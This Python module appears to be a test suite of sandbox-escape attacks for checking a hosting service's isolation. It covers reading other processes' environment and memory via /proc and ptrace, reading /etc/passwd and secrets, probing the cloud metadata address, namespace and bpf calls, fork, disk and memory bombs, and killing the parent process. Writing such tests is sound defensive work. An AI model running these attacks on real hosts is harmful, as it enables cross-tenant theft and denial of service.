"""Attacks of code behind a host, each a function that raises where it is denied and says what it got where it is not.

Rule: they do the harm to stand-ins that the test has set up (``aim``), or stop one step before it. Only the standard
library: they run inside.
"""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

Aim = Mapping[str, Any]
SECRET = "a-secret-of-somebody-else"
NUM_FORKS, DISK_BYTES = 120, 48 << 20
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_X86 = os.uname().machine == "x86_64"


@dataclass(frozen=True)
class Attack:
    name: str
    words: str
    run: Callable[[Aim], object]
    needs_root: bool
    """Without a wall it succeeds only where the service is root."""


ATTACKS: dict[str, Attack] = {}


def attack(*, root: bool = False) -> Callable[[Callable[[Aim], object]], Callable[[Aim], object]]:
    def add(run: Callable[[Aim], object]) -> Callable[[Aim], object]:
        assert run.__doc__ is not None
        ATTACKS[run.__name__] = Attack(run.__name__, run.__doc__.rstrip("."), run, root)
        return run

    return add


class Attacker:
    """Tries one attack."""

    tasks = [{}]  # noqa: RUF012 - never changed
    hosting = {"sessions_per_process": 1, "memory_mb": 192, "file_mb": 16}  # noqa: RUF012 - never changed

    def reset(self) -> str:
        return "begin"

    def attempt(self, name: str, aim: dict[str, Any]) -> str:
        """Attack."""
        try:
            return f"succeeded: {ATTACKS[name].run(aim)}"
        except (OSError, ValueError, LookupError, MemoryError) as error:
            return f"denied: {type(error).__name__}: {error}"

    def folder(self) -> str:
        """Say where the own files are, and which process this is."""
        return f"{os.environ['TMPDIR']} {os.getpid()}"

    def get_reward(self) -> float:
        return 0.0


def call(number: int, *arguments: Any) -> int:
    result = int(_libc.syscall(ctypes.c_long(number), *arguments))
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def found(text: bytes | str) -> str:
    """Raises ``LookupError`` unless the secret is in it."""
    held = text.encode() if isinstance(text, str) else text
    if SECRET.encode() not in held:
        raise LookupError("no secret in it")
    return "the secret"


def in_child(act: Callable[[], object]) -> str:
    """What it does to its process stays there."""
    pid = os.fork()
    if pid == 0:
        status = 1
        try:
            act()
            status = 0
        finally:
            os._exit(status)
    if status := os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]):
        raise PermissionError(f"status {status}")
    return "done"


# --- other processes


@attack()
def others_environment(aim: Aim) -> str:
    """Read the environment variables of another process."""
    return found(Path(f"/proc/{aim['pid']}/environ").read_bytes())


@attack()
def others_arguments(aim: Aim) -> str:
    """Find another process among all, by its arguments."""
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(FileNotFoundError, ProcessLookupError):  # others end while it looks
            if entry.name.isdecimal() and SECRET.encode() in (entry / "cmdline").read_bytes():
                return entry.name
    raise LookupError("not among the processes")


@attack()
def others_memory(aim: Aim) -> str:
    """Read the memory of another process through `/proc`."""
    for line in Path(f"/proc/{aim['pid']}/maps").read_text().splitlines():
        if line.endswith("[stack]"):
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            with open(f"/proc/{aim['pid']}/mem", "rb", buffering=0) as memory:
                memory.seek(low)
                return found(memory.read(high - low))
    raise LookupError("it has no stack")


@attack()
def others_memory_by_call(aim: Aim) -> str:
    """Read the memory of another process with `process_vm_readv`."""
    buffer = ctypes.create_string_buffer(8)
    address = int(Path(f"/proc/{aim['pid']}/maps").read_text().split("-")[0], 16)
    ours = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    theirs = (ctypes.c_size_t * 2)(address, 8)
    return f"{call(310 if _X86 else 270, aim['pid'], ours, 1, theirs, 1, 0)} bytes"


@attack()
def trace_others(aim: Aim) -> str:
    """Attach to another process with `ptrace`."""
    attach, detach, number = 16, 17, 101 if _X86 else 117
    pid = ctypes.c_long(aim["pid"])
    call(number, ctypes.c_long(attach), pid, None, None)
    os.waitpid(aim["pid"], 0x40000000)
    call(number, ctypes.c_long(detach), pid, None, None)
    return "attached"


@attack()
def signal_others(aim: Aim) -> str:
    """Send a signal to another process."""
    os.kill(aim["pid"], signal.SIGCONT)
    return "sent"


@attack()
def signal_neighbour(aim: Aim) -> str:
    """Send a signal to the process of a neighbouring session."""
    os.kill(aim["neighbour"], signal.SIGCONT)
    return "sent"


@attack()
def memory_of_neighbour(aim: Aim) -> str:
    """Open the memory of a neighbouring session for writing."""
    os.close(os.open(f"/proc/{aim['neighbour']}/mem", os.O_RDWR))
    return "opened"


@attack()
def files_of_neighbour(aim: Aim) -> str:
    """Read the temporary files of a neighbouring session."""
    return str(os.listdir(aim["neighbours_folder"]))


@attack()
def memory_of_fork_server(aim: Aim) -> str:
    """Open the memory of the process that forks all sessions."""
    os.close(os.open(f"/proc/{os.getppid()}/mem", os.O_RDWR))
    return "opened"


@attack()
def root_through_proc(aim: Aim) -> str:
    """Reach the machine's files through `/proc/PID/root`."""
    roots = [Path("/proc", entry, "root") for entry in os.listdir("/proc") if entry.isdecimal()]
    for root in roots:
        try:
            return found(Path(f"{root}{aim['secret']}").read_bytes())
        except OSError:
            continue
    raise LookupError("through none of them")


@attack(root=True)
def take_priority(aim: Aim) -> str:
    """Raise the own priority above that of the service."""
    return in_child(lambda: os.nice(-5))


@attack(root=True)
def run_in_real_time(aim: Aim) -> str:
    """Ask for real-time scheduling."""
    return in_child(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))


# --- files


@attack()
def read_data_directory(aim: Aim) -> str:
    """Read a secret below the data directory."""
    return found(Path(aim["secret"]).read_bytes())


@attack()
def write_data_directory(aim: Aim) -> str:
    """Change a file of another job below the data directory."""
    with open(aim["weights"], "r+b") as file:
        return f"{file.write(b'x')} byte"


@attack()
def read_dotted_file(aim: Aim) -> str:
    """Read the `.env` beside the environment's code."""
    return found(Path(aim["dotted"]).read_bytes())


@attack()
def write_own_code(aim: Aim) -> str:
    """Change the environment's own code, which another job runs as well."""
    with open(aim["code"], "r+b") as file:
        return f"open at {file.tell()}"


@attack()
def write_service(aim: Aim) -> str:
    """Change the source of the service."""
    os.close(os.open(aim["source"], os.O_WRONLY))
    return "opened"


@attack()
def follow_planted_link(aim: Aim) -> str:
    """Reach a secret through a symbolic link."""
    link = os.path.join(os.environ["TMPDIR"], "link")
    os.symlink(aim["secret"], link)
    return found(Path(link).read_bytes())


@attack()
def read_accounts(aim: Aim) -> str:
    """Read the list of accounts."""
    return f"{len(Path('/etc/passwd').read_text())} characters"


@attack()
def leave_in_tmp(aim: Aim) -> str:
    """Leave a file where everybody finds it."""
    if not Path(aim["common"]).is_dir():
        raise LookupError("there is no such folder")
    path = Path(aim["common"], "left")
    path.write_text("left")
    path.unlink()
    return "left"


@attack(root=True)
def make_device(aim: Aim) -> str:
    """Make a device file, and read a disk with it."""
    path = os.path.join(os.environ["TMPDIR"], "device")
    os.mknod(path, 0o600 | 0o060000, os.makedev(254, 0))
    os.unlink(path)
    return "made"


@attack(root=True)
def mount_over(aim: Aim) -> str:
    """Mount something over a folder."""

    def act() -> None:
        call(272 if _X86 else 97, ctypes.c_int(0x00020000))
        call(165 if _X86 else 40, b"none", os.environ["TMPDIR"].encode(), b"tmpfs", ctypes.c_ulong(0), None)

    return in_child(act)


@attack()
def make_user_namespace(aim: Aim) -> str:
    """Become root of a user namespace of its own."""
    return in_child(lambda: call(272 if _X86 else 97, ctypes.c_int(0x10000000)))


@attack()
def clone_user_namespace(aim: Aim) -> str:
    """The same with `clone`."""
    pid = call(56 if _X86 else 220, ctypes.c_ulong(0x10000000 | signal.SIGCHLD), None, None, None, None)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "made"


@attack(root=True)
def change_root(aim: Aim) -> str:
    """Change the root directory."""
    return in_child(lambda: os.chroot(os.environ["TMPDIR"]))


@attack(root=True)
def core_pattern(aim: Aim) -> str:
    """Have the kernel run a program at each crash."""
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return "opened"


@attack(root=True)
def kernel_settings(aim: Aim) -> str:
    """Change how the kernel uses memory."""
    os.close(os.open("/proc/sys/vm/drop_caches", os.O_WRONLY))
    return "opened"


@attack()
def control_groups(aim: Aim) -> str:
    """Look at the machine's control groups and devices."""
    return str(len(os.listdir("/sys")))


# --- network and messages


@attack()
def connect_to_redis(aim: Aim) -> str:
    """Connect to a server on loopback."""
    with socket.create_connection(("127.0.0.1", aim["tcp"]), timeout=5) as one:
        return found(one.recv(100))


@attack()
def ask_resolver(aim: Aim) -> str:
    """Ask a resolver, and tell it something by that."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(0.5)
        one.sendto(b"tell", ("127.0.0.1", aim["udp"]))
        return found(one.recv(100))


@attack()
def metadata_address(aim: Aim) -> str:
    """Find a way to the addresses of a cloud's metadata."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect(("169.254.169.254", 80))
        return f"from {one.getsockname()[0]}"


@attack()
def unix_socket(aim: Aim) -> str:
    """Connect to another process's Unix socket."""
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(aim["unix"])
        return found(one.recv(100))


@attack()
def abstract_socket(aim: Aim) -> str:
    """Connect to another process's abstract socket."""
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\0" + aim["abstract"])
        return found(one.recv(100))


@attack()
def shared_memory(aim: Aim) -> str:
    """Attach to another process's shared memory."""
    return f"segment {_checked(_libc.shmget(aim['shm'], 0, 0))}"


@attack()
def message_queue(aim: Aim) -> str:
    """Open another process's message queue."""
    return f"queue {_checked(_libc.msgget(aim['queue'], 0))}"


def _checked(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


@attack(root=True)
def raw_packets(aim: Aim) -> str:
    """Read the machine's packets."""
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
    return "opened"


@attack()
def hypervisor_socket(aim: Aim) -> str:
    """Open a socket to the hypervisor, which no network namespace holds back."""
    socket.socket(40, socket.SOCK_STREAM).close()
    return "opened"


# --- the kernel


@attack()
def keyring(aim: Aim) -> str:
    """Put a key into the kernel's keyring, where others find it."""
    return f"key {call(248 if _X86 else 217, b'user', b'gspo-attack', b'x', ctypes.c_size_t(1), ctypes.c_int(-2))}"


@attack(root=True)
def set_clock(aim: Aim) -> str:
    """Set the clock."""
    time.clock_settime(time.CLOCK_REALTIME, time.clock_gettime(time.CLOCK_REALTIME))
    return "set"


@attack(root=True)
def rename_machine(aim: Aim) -> str:
    """Rename the machine."""
    socket.sethostname(socket.gethostname())
    return "renamed"


@attack(root=True)
def kernel_log(aim: Aim) -> str:
    """Read the kernel's log."""
    return f"{call(103 if _X86 else 116, 10, None, 0)} bytes"


@attack(root=True)
def kernel_programs(aim: Aim) -> str:
    """Load something into the kernel with `bpf`."""
    attributes = (ctypes.c_uint32 * 16)(2, 4, 8, 1)  # an array of one entry
    os.close(call(321 if _X86 else 280, 0, attributes, 64))
    return "loaded"


@attack()
def watch_counters(aim: Aim) -> str:
    """Watch others through the processor's counters."""
    attributes = (ctypes.c_uint32 * 28)(1, 112)  # the task's clock
    os.close(call(298 if _X86 else 241, attributes, 0, -1, -1, ctypes.c_ulong(0)))
    return "opened"


@attack()
def ring_calls(aim: Aim) -> str:
    """Pass system calls by a ring that no filter sees."""
    os.close(call(425, 2, (ctypes.c_uint32 * 30)()))
    return "opened"


@attack()
def page_faults(aim: Aim) -> str:
    """Hold the kernel at page faults (`userfaultfd`)."""
    os.close(call(323 if _X86 else 282, 1))
    return "opened"


# --- too much


@attack()
def fork_bomb(aim: Aim) -> str:
    """Start processes without end."""
    children = []
    try:
        for _ in range(NUM_FORKS):
            pid = os.fork()
            if pid == 0:
                signal.pause()
            children.append(pid)
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
    return f"{len(children)} processes"


@attack()
def disk_bomb(aim: Aim) -> str:
    """Fill the disk with many files."""
    written = 0
    for number in range(DISK_BYTES >> 22):
        path = Path(os.environ["TMPDIR"], str(number))
        written += path.write_bytes(bytes(4 << 20))
    return f"{written} bytes"


@attack()
def memory_bomb(aim: Aim) -> str:
    """Fill the memory with many processes, each within its bounds."""
    hog = "x = bytearray(40 << 20)\nprint(len(x), flush=True)\ninput()"
    hogs = [
        subprocess.Popen([sys.executable, "-I", "-S", "-c", hog], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        for _ in range(6)
    ]
    held = sum(len(one.stdout.readline()) > 0 for one in hogs if one.stdout is not None)
    time.sleep(1.0)  # watches look a few times a second
    for one in hogs:
        one.kill()
        one.communicate()
    return f"{held} times 40 MiB"


@attack()
def write_shared_mark(aim: Aim) -> str:
    """Map memory that is shared with a file of the data directory."""
    with open(aim["weights"], "r+b") as file, mmap.mmap(file.fileno(), 4) as shared:
        shared[0:1] = b"y"
    return "written"


# --- what only somebody outside can judge


class Lasting(Attacker):
    """Leaves something behind."""

    def listen(self) -> str:
        """Listen on all addresses."""
        self._listening = socket.create_server(("0.0.0.0", 0))
        return str(self._listening.getsockname()[1])

    def daemon(self, mark: str, waits: bool) -> str:
        """Leave a daemon, and end who would end it.

        Where that ends this process too, it waits for it: on a busy machine who is killed may live on for a moment, and
        an answer meanwhile has its session closed, which ends the daemon.
        """
        program = f"import time\ntime.sleep(300)  # {mark}"
        subprocess.Popen([sys.executable, "-I", "-S", "-c", program], start_new_session=True)
        os.kill(os.getppid(), signal.SIGKILL)
        if waits:
            time.sleep(600)
        return "left"


# --- the neighbours, by calls that are not meant for attacks


@attack()
def limits_of_neighbour(aim: Aim) -> str:
    """End a neighbouring session by the limit of its time on the processor (`prlimit`)."""
    resource.prlimit(aim["neighbour"], resource.RLIMIT_CPU, resource.prlimit(aim["neighbour"], resource.RLIMIT_CPU))
    return "set"


@attack()
def limits_of_fork_server(aim: Aim) -> str:
    """Take its files from the process that forks all sessions (`prlimit`)."""
    parent = os.getppid()
    resource.prlimit(parent, resource.RLIMIT_NOFILE, resource.prlimit(parent, resource.RLIMIT_NOFILE))
    return "set"


@attack()
def priority_of_neighbour(aim: Aim) -> str:
    """Let a neighbouring session run only when nothing else does."""
    os.sched_setscheduler(aim["neighbour"], os.SCHED_IDLE, os.sched_param(0))
    return "set"


@attack()
def processor_of_neighbour(aim: Aim) -> str:
    """Press a neighbouring session onto one processor."""
    os.sched_setaffinity(aim["neighbour"], os.sched_getaffinity(aim["neighbour"]))
    return "set"


@attack()
def oom_of_neighbour(aim: Aim) -> str:
    """Have the kernel end a neighbouring session first when memory is short."""
    Path(f"/proc/{aim['neighbour']}/oom_score_adj").write_text("1000")
    return "set"


@attack()
def files_by_handle(aim: Aim) -> str:
    """Read a secret by the handle of its file, past all paths (`name_to_handle_at`)."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    path = str(aim["secret"]).encode()
    call(303 if _X86 else 264, ctypes.c_int(-100), path, handle, ctypes.byref(mount), ctypes.c_int(0))
    return "a handle"
